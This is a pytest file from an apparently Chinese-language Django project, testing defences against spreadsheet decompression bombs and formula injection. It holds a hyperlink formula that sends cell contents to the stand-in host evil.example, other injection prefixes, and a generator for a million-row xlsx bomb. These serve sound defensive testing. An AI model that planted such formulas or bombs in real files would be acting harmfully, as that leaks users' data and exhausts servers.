"""Issue 13, found item 2: spreadsheet bombs and formula injection.

A workbook declaring 1,000,000 rows is refused before any cell is parsed; reading stops at the
row limit; every export neutralises cells a spreadsheet program would run as formulas; no
module writes a workbook except through zhihui.core.spreadsheets.save_workbook."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from zhihui.core import spreadsheets as sheets

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


def _bomb(rows: int = 1_000_000) -> bytes:
    """A real .xlsx whose only sheet declares and holds `rows` rows (deflated: a few MB)."""
    wb = Workbook()
    wb.active.title = "实际值"
    base = io.BytesIO()
    wb.save(base)
    src = zipfile.ZipFile(io.BytesIO(base.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                z.writestr(info, src.read(info.filename))
                continue
            with z.open("xl/worksheets/sheet1.xml", "w") as f:
                f.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                        b'spreadsheetml/2006/main"><dimension ref="A1:G%d"/><sheetData>' % rows)
                chunk = []
                for r in range(1, rows + 1):
                    chunk.append(b'<row r="%d"><c r="F%d"><v>1</v></c></row>' % (r, r))
                    if len(chunk) == 20000:
                        f.write(b"".join(chunk))
                        chunk = []
                f.write(b"".join(chunk) + b"</sheetData></worksheet>")
    return out.getvalue()


def test_a_bomb_is_refused_before_any_cell_is_parsed(monkeypatch, settings):
    data = _bomb()
    assert len(data) < 8 * 1024 * 1024
    import openpyxl

    def must_not_parse(*a, **k):
        raise AssertionError("openpyxl parsed a workbook the archive check should have refused")

    monkeypatch.setattr(openpyxl, "load_workbook", must_not_parse)
    with pytest.raises(sheets.SpreadsheetTooLarge, match="解压后 .* MB，超过 20 MB 上限"):
        sheets.open_xlsx(data)


@pytest.mark.django_db
def test_the_plan_import_names_the_limit(settings):
    from zhihui.plan.actions import PlanInputError
    from zhihui.plan.xlsx import parse_actuals

    with pytest.raises(PlanInputError) as exc:
        parse_actuals(_bomb(1_000_000))
    assert "超过 20 MB 上限" in str(exc.value.errors)
    with pytest.raises(PlanInputError) as exc:
        parse_actuals(_bomb(50_000))  # under the byte limit: reading stops at the row limit
    assert exc.value.errors == ["文件: 超过500行（第502行起未读取）"]


def test_reading_stops_at_the_row_limit_without_reading_the_rest():
    pulled = {"n": 0}

    class Sheet:
        def iter_rows(self, max_col, values_only):
            for i in range(1_000_000):
                pulled["n"] += 1
                yield (i,) * max_col

    with pytest.raises(sheets.SpreadsheetTooLarge, match="超过500行"):
        for _ in sheets.rows(Sheet(), 500, 7):
            pass
    assert pulled["n"] == 502


def test_rows_are_cut_at_the_column_limit():
    wb = Workbook()
    wb.active.append(list(range(100)))
    data = sheets.save_workbook(wb)
    ws = sheets.open_xlsx(data).active
    ((_, values),) = list(sheets.rows(ws, 10, 7))
    assert len(values) == 7


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_neutralise(text):
    assert sheets.neutralise(text) == "'" + text
    assert sheets.neutralise("张三") == "张三" and sheets.neutralise(-5) == -5


def test_no_module_writes_a_workbook_except_through_save_workbook():
    root = Path(__file__).resolve().parents[2] / "zhihui"
    offenders = []
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if "openpyxl" not in text or path.name == "spreadsheets.py":
            continue
        # a workbook saved directly: `wb = Workbook(…)` … `wb.save(…)` (a model's .save() is not one)
        books = set(re.findall(r"\b(\w+)\s*=\s*(?:openpyxl\.)?Workbook\(", text))
        if any(re.search(rf"\b{re.escape(b)}\.save\(", text) for b in books):
            offenders.append(str(path.relative_to(root)))
    assert offenders == [], f"write workbooks with zhihui.core.spreadsheets.save_workbook: {offenders}"
